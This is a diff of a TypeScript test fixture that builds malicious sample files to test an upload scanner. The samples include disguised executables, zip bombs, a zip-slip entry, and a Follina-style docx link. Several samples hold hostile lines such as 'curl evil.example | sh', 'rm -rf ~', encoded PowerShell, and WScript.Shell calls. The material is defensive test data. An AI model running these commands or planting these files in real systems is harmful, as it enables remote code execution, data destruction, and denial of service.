@@ -125,7 +125,9 @@ export function docx(options: { body?: string; documentRels?: string; extra?: Zi
     },
     {
       name: 'word/document.xml',
-      data: Buffer.from(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="${W}" xmlns:r="${R}"><w:body>${body}</w:body></w:document>`),
+      data: Buffer.from(
+        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="${W}" xmlns:r="${R}"><w:body>${body}</w:body></w:document>`,
+      ),
     },
     {
       name: 'word/_rels/document.xml.rels',
@@ -149,11 +151,13 @@ function overlappingZip(copies: number): Buffer {
   const one = buildZip([{ name: 'kernel', deflated: deflatedZeros(1) }]);
   const cdAt = one.readUInt32LE(one.length - 6);
   const record = one.subarray(cdAt, one.length - 22);
-  const cd = Buffer.concat(Array.from({ length: copies }, (_, i) => {
-    const r = Buffer.from(record);
-    r.write(`k${String(i).padStart(5, '0')}`.slice(0, 6), 46, 'latin1'); // same length as "kernel"
-    return r;
-  }));
+  const cd = Buffer.concat(
+    Array.from({ length: copies }, (_, i) => {
+      const r = Buffer.from(record);
+      r.write(`k${String(i).padStart(5, '0')}`.slice(0, 6), 46, 'latin1'); // same length as "kernel"
+      return r;
+    }),
+  );
   const eocd = Buffer.from(one.subarray(one.length - 22));
   eocd.writeUInt16LE(copies, 8);
   eocd.writeUInt16LE(copies, 10);
@@ -178,13 +182,30 @@ export function maliciousCorpus(): Promise<MaliciousFile[]> {
 async function build(): Promise<MaliciousFile[]> {
   const { png, jpeg } = await smallImages();
   const text = (s: string) => Buffer.from(s, 'utf8');
-  const malware = (name: string, filename: string, data: Buffer, reason: RegExp): MaliciousFile => ({ name, filename, data, code: 'malware_detected', reason });
-  const unsafe = (name: string, filename: string, data: Buffer, reason: RegExp): MaliciousFile => ({ name, filename, data, code: 'unsafe_archive', reason });
+  const malware = (name: string, filename: string, data: Buffer, reason: RegExp): MaliciousFile => ({
+    name,
+    filename,
+    data,
+    code: 'malware_detected',
+    reason,
+  });
+  const unsafe = (name: string, filename: string, data: Buffer, reason: RegExp): MaliciousFile => ({
+    name,
+    filename,
+    data,
+    code: 'unsafe_archive',
+    reason,
+  });
   return [
     malware('EICAR plain', 'eicar.txt', EICAR, /EICAR/),
     malware('EICAR with trailing whitespace', 'eicar.com.txt', Buffer.concat([EICAR, text('  \r\n')]), /EICAR/),
     malware('EICAR in a zip', 'eicar.zip', buildZip([{ name: 'readme.txt', data: EICAR }]), /EICAR/),
-    malware('EICAR in a nested zip', 'eicar-nested.zip', buildZip([{ name: 'inner.zip', data: buildZip([{ name: 'eicar.txt', data: EICAR }]) }]), /inner\.zip.*EICAR/),
+    malware(
+      'EICAR in a nested zip',
+      'eicar-nested.zip',
+      buildZip([{ name: 'inner.zip', data: buildZip([{ name: 'eicar.txt', data: EICAR }]) }]),
+      /inner\.zip.*EICAR/,
+    ),
     malware('PE named .jpg', 'holiday.jpg', peExecutable(), /PE/),
     malware('PE named .pdf', 'invoice.pdf', peExecutable(), /PE/),
     malware('ELF named .jpg', 'cat.jpg', elfExecutable(), /ELF/),
@@ -193,30 +214,130 @@ async function build(): Promise<MaliciousFile[]> {
     malware('universal Mach-O named .pdf', 'doc.pdf', fatMachO(), /Mach-O/),
     malware('PNG with an ELF appended', 'pretty.png', Buffer.concat([png, elfExecutable()]), /ELF/),
     malware('PNG with a PE appended', 'pretty2.png', Buffer.concat([png, Buffer.alloc(100), peExecutable()]), /PE/),
-    malware('PNG with a script appended', 'pretty3.png', Buffer.concat([png, text('<script>alert(document.cookie)</script>')]), /after the end of the PNG/),
-    malware('JPEG with a zip appended', 'pretty.jpg', Buffer.concat([jpeg, buildZip([{ name: 'a.txt', data: text('hidden') }])]), /after the end of the JPEG/),
-    malware('PDF with a script after %%EOF', 'paper.pdf', Buffer.concat([pdf(), text('#!/bin/sh\ncurl http://evil.example/x | sh\n')]), /after the end of the PDF/),
-    malware('zip with data prepended', 'bundle.zip', Buffer.concat([text('prepended bytes that are not part of the archive\n'), buildZip([{ name: 'a.txt', data: text('hi') }])]), /zip archive is hidden/),
+    malware(
+      'PNG with a script appended',
+      'pretty3.png',
+      Buffer.concat([png, text('<script>alert(document.cookie)</script>')]),
+      /after the end of the PNG/,
+    ),
+    malware(
+      'JPEG with a zip appended',
+      'pretty.jpg',
+      Buffer.concat([jpeg, buildZip([{ name: 'a.txt', data: text('hidden') }])]),
+      /after the end of the JPEG/,
+    ),
+    malware(
+      'PDF with a script after %%EOF',
+      'paper.pdf',
+      Buffer.concat([pdf(), text('#!/bin/sh\ncurl http://evil.example/x | sh\n')]),
+      /after the end of the PDF/,
+    ),
+    malware(
+      'zip with data prepended',
+      'bundle.zip',
+      Buffer.concat([text('prepended bytes that are not part of the archive\n'), buildZip([{ name: 'a.txt', data: text('hi') }])]),
+      /zip archive is hidden/,
+    ),
     malware('shell script named .jpg', 'image.jpg', text('#!/bin/sh\nrm -rf ~\n'), /script/),
-    malware('HTA named .pdf', 'form.pdf', text('<HTA:APPLICATION ID="x"><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>'), /HTML application/),
+    malware(
+      'HTA named .pdf',
+      'form.pdf',
+      text('<HTA:APPLICATION ID="x"><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>'),
+      /HTML application/,
+    ),
     malware('batch file named .jpg', 'pic.jpg', text('@echo off\r\npowershell -enc AAAA\r\n'), /batch/),
-    malware('docx with a script element', 'letter.docx', docx({ body: '<w:p><w:r><w:t>Hi</w:t></w:r></w:p><script>new ActiveXObject("WScript.Shell").Run("calc")</script>' }), /script/),
-    malware('docx with an ms-msdt external link (Follina)', 'cv.docx', docx({ documentRels: `<Relationship Id="rId9" Type="${R}/oleObject" Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" TargetMode="External"/>` }), /protocol/),
-    malware('docx with an executable embedded', 'notes.docx', docx({ extra: [{ name: 'word/embeddings/oleObject1.bin', data: Buffer.concat([Buffer.alloc(512, 0x20), peExecutable()]) }] }), /oleObject1\.bin.*PE/),
-    malware('docx with a script disguised as an image', 'memo.docx', docx({ extra: [{ name: 'word/media/image1.png', data: text('<script>fetch("http://evil.example")</script>') }] }), /image1\.png.*script/),
-    malware('docx with a JScript part', 'report.docx', docx({ extra: [{ name: 'word/embeddings/run.js', data: text('var s = new ActiveXObject("WScript.Shell"); s.Run("calc");') }] }), /script inside an Office document/),
+    malware(
+      'docx with a script element',
+      'letter.docx',
+      docx({ body: '<w:p><w:r><w:t>Hi</w:t></w:r></w:p><script>new ActiveXObject("WScript.Shell").Run("calc")</script>' }),
+      /script/,
+    ),
+    malware(
+      'docx with an ms-msdt external link (Follina)',
+      'cv.docx',
+      docx({
+        documentRels: `<Relationship Id="rId9" Type="${R}/oleObject" Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" TargetMode="External"/>`,
+      }),
+      /protocol/,
+    ),
+    malware(
+      'docx with an executable embedded',
+      'notes.docx',
+      docx({ extra: [{ name: 'word/embeddings/oleObject1.bin', data: Buffer.concat([Buffer.alloc(512, 0x20), peExecutable()]) }] }),
+      /oleObject1\.bin.*PE/,
+    ),
+    malware(
+      'docx with a script disguised as an image',
+      'memo.docx',
+      docx({ extra: [{ name: 'word/media/image1.png', data: text('<script>fetch("http://evil.example")</script>') }] }),
+      /image1\.png.*script/,
+    ),
+    malware(
+      'docx with a JScript part',
+      'report.docx',
+      docx({ extra: [{ name: 'word/embeddings/run.js', data: text('var s = new ActiveXObject("WScript.Shell"); s.Run("calc");') }] }),
+      /script inside an Office document/,
+    ),
     malware('docx with macros', 'budget.docx', docx({ extra: [{ name: 'word/vbaProject.bin', data: Buffer.alloc(64, 1) }] }), /macros/),
-    malware('zip with an .exe', 'photos.zip', buildZip([{ name: 'IMG_0001.jpg.exe', data: text('not really a program') }]), /Windows would run/),
-    malware('zip with a script named .jpg', 'pics.zip', buildZip([{ name: 'pics/cat.jpg', data: text('#!/usr/bin/env python3\nimport os\n') }]), /disguised/),
+    malware(
+      'zip with an .exe',
+      'photos.zip',
+      buildZip([{ name: 'IMG_0001.jpg.exe', data: text('not really a program') }]),
+      /Windows would run/,
+    ),
+    malware(
+      'zip with a script named .jpg',
+      'pics.zip',
+      buildZip([{ name: 'pics/cat.jpg', data: text('#!/usr/bin/env python3\nimport os\n') }]),
+      /disguised/,
+    ),
     malware('zip with an ELF named .png', 'icons.zip', buildZip([{ name: 'icon.png', data: elfExecutable() }]), /ELF/),
-    unsafe('zip with a path-traversal entry (zip slip)', 'slip.zip', buildZip([{ name: '../../.bashrc', data: text('curl evil.example | sh\n') }]), /relative path/),
-    unsafe('zip with an encrypted entry (cannot be inspected)', 'secret.zip', buildZip([{ name: 'invoice.pdf', data: randomBytes(200), store: true, encrypted: true }]), /encrypted/),
+    unsafe(
+      'zip with a path-traversal entry (zip slip)',
+      'slip.zip',
+      buildZip([{ name: '../../.bashrc', data: text('curl evil.example | sh\n') }]),
+      /relative path/,
+    ),
+    unsafe(
+      'zip with an encrypted entry (cannot be inspected)',
+      'secret.zip',
+      buildZip([{ name: 'invoice.pdf', data: randomBytes(200), store: true, encrypted: true }]),
+      /encrypted/,
+    ),
     unsafe('zip bomb: one entry, high ratio', 'zeros.zip', buildZip([{ name: 'zeros.bin', deflated: deflatedZeros(64) }]), /ratio|times/),
-    unsafe('zip bomb: total expansion (many 1 MiB entries)', 'big.zip', buildZip(Array.from({ length: 120 }, (_, i) => ({ name: `part${i}.bin`, deflated: deflatedZeros(1) }))), /declares more than \d+ bytes/),
-    unsafe('zip bomb: declared size is a lie', 'liar.zip', buildZip([{ name: 'small.txt', deflated: deflatedZeros(200), declaredSize: 1000 }]), /declares|ratio|times|bytes/),
-    unsafe('zip bomb: too many entries', 'many.zip', buildZip(Array.from({ length: 20_000 }, (_, i) => ({ name: `${i}`, data: Buffer.alloc(0), store: true }))), /entries/),
+    unsafe(
+      'zip bomb: total expansion (many 1 MiB entries)',
+      'big.zip',
+      buildZip(Array.from({ length: 120 }, (_, i) => ({ name: `part${i}.bin`, deflated: deflatedZeros(1) }))),
+      /declares more than \d+ bytes/,
+    ),
+    unsafe(
+      'zip bomb: declared size is a lie',
+      'liar.zip',
+      buildZip([{ name: 'small.txt', deflated: deflatedZeros(200), declaredSize: 1000 }]),
+      /declares|ratio|times|bytes/,
+    ),
+    unsafe(
+      'zip bomb: too many entries',
+      'many.zip',
+      buildZip(Array.from({ length: 20_000 }, (_, i) => ({ name: `${i}`, data: Buffer.alloc(0), store: true }))),
+      /entries/,
+    ),
     unsafe('zip bomb: nested too deep', 'deep.zip', nest(6, buildZip([{ name: 'a.txt', data: text('hi') }])), /nested/),
-    unsafe('zip bomb: nested copies (42.zip style)', '42.zip', nest(1, buildZip(Array.from({ length: 16 }, (_, i) => ({ name: `${i}.zip`, data: buildZip(Array.from({ length: 16 }, (_, j) => ({ name: `${j}.bin`, deflated: deflatedZeros(1) }))) })))), /ratio|times|bytes|nested/),
+    unsafe(
+      'zip bomb: nested copies (42.zip style)',
+      '42.zip',
+      nest(
+        1,
+        buildZip(
+          Array.from({ length: 16 }, (_, i) => ({
+            name: `${i}.zip`,
+            data: buildZip(Array.from({ length: 16 }, (_, j) => ({ name: `${j}.bin`, deflated: deflatedZeros(1) }))),
+          })),
+        ),
+      ),
+      /ratio|times|bytes|nested/,
+    ),
     unsafe('zip bomb: overlapping entries', 'overlap.zip', overlappingZip(90), /overlapping/),
   ];
 }
